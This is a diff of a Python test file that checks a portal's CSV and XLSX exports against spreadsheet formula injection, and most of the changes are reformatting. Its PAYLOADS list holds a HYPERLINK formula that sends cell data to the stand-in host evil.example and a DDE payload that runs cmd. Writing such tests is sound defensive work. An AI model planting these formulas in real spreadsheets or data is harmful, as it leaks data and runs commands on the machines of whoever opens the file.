@@ -5,6 +5,7 @@ CSV export goes through one writer (``portal.layout.export``) that writes them a
 prefixes a leading ``= + - @``, tab or CR with an apostrophe. Risk and event entries are
 checked in ``tests/reports/test_export_formula_injection.py`` (they need the reporting forms).
 """
+
 import io
 from datetime import date
 from decimal import Decimal
@@ -15,11 +16,19 @@ from pyramid.traversal import find_resource
 
 from portal.layout.export import csv_bytes, restore_text, text, xlsx_bytes
 from portal.testing.web import login
-
 from tests.security.formula import csv_texts, xlsx_texts
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "　@x"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    "　@x",
+]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -46,6 +55,7 @@ def test_characters_a_spreadsheet_cannot_hold_are_dropped():
 def planted(app, site_of):
     """A case subject and a unit title that are formulas."""
     from tests.public.seeding import PETITIONER, Seeder
+
     path = Seeder(app)("/zhongyuan", PETITIONER, subject=PAYLOADS[0], received_on=date(2026, 11, 2))
     with site_of(app, commit=True) as site:
         find_resource(site, "/zhongyuan/s01").title = PAYLOADS[3]
@@ -65,6 +75,7 @@ def test_org_tree_export_and_its_round_trip(planted, testapp, fmt):
     texts = (xlsx_texts if fmt == "xlsx" else csv_texts)(body)
     assert "'" + PAYLOADS[3] in texts
     from portal.orgtree.io import read_rows
+
     rows = dict((r[1][1], r[1][2]) for r in read_rows(f"x.{fmt}", body))
     assert rows["s01"] == PAYLOADS[3]  # importing our own export gives the title back
 
@@ -79,11 +90,24 @@ def test_report_dashboards_export(planted, testapp):
 
 # Every export view of the portal: (who downloads it, from where). A new export must be added
 # here, so that it is checked too.
-EXPORTS = {name: ("zy_head", "/zhongyuan/") for name in (
-    "assessment-export", "backlog-export", "cases-export", "decisions-export",
-    "duties-board-export", "export-tree",
-    "incidents-export", "major-events-export", "ontime-export", "rectifications-export",
-    "reports-export", "risk-ledger-export", "zero-reports-export")}
+EXPORTS = {
+    name: ("zy_head", "/zhongyuan/")
+    for name in (
+        "assessment-export",
+        "backlog-export",
+        "cases-export",
+        "decisions-export",
+        "duties-board-export",
+        "export-tree",
+        "incidents-export",
+        "major-events-export",
+        "ontime-export",
+        "rectifications-export",
+        "reports-export",
+        "risk-ledger-export",
+        "zero-reports-export",
+    )
+}
 EXPORTS["reports-units-export"] = ("city_officer", "/")
 #: Where the planted subject (a case) or unit title (a school) shows up.
 SHOWS_SUBJECT = {"cases-export", "backlog-export"}
@@ -91,8 +115,11 @@ SHOWS_TITLE = {"assessment-export", "export-tree", "ontime-export", "reports-exp
 
 
 def test_every_export_view_is_listed_here(app):
-    names = {i["introspectable"]["name"] for i in app.registry.introspector.get_category("views")
-             if "export" in (i["introspectable"]["name"] or "")}
+    names = {
+        i["introspectable"]["name"]
+        for i in app.registry.introspector.get_category("views")
+        if "export" in (i["introspectable"]["name"] or "")
+    }
     assert names == set(EXPORTS)
 
 
@@ -111,9 +138,12 @@ def test_no_other_module_writes_spreadsheets():
     """The one writer is the only place that builds an xlsx workbook or writes CSV."""
     import pathlib
     import re
+
     import portal
+
     root = pathlib.Path(portal.__file__).parent
     writers = re.compile(r"\bWorkbook\(|csv\.writer|csv\.DictWriter|xlsxwriter")
-    found = [str(p.relative_to(root)) for p in root.rglob("*.py")
-             if writers.search(p.read_text(encoding="utf-8"))]
+    found = [
+        str(p.relative_to(root)) for p in root.rglob("*.py") if writers.search(p.read_text(encoding="utf-8"))
+    ]
     assert found == ["layout/export.py"]
